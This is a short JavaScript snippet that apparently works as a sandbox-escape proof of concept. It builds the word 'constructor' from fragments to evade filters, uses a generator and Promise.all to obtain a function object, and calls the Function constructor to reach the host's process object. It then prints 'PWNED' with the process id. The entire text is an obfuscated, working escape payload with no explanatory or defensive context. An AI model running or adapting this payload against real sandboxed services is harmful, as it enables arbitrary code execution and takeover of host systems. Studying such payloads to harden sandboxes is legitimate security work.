const w = ['con', 'structor'].join('');
class G { *[Symbol.iterator]() { yield (x) => x; } }
Promise.all(new G()).then(([f]) => console.log('PWNED', f[w]('return process')().pid));
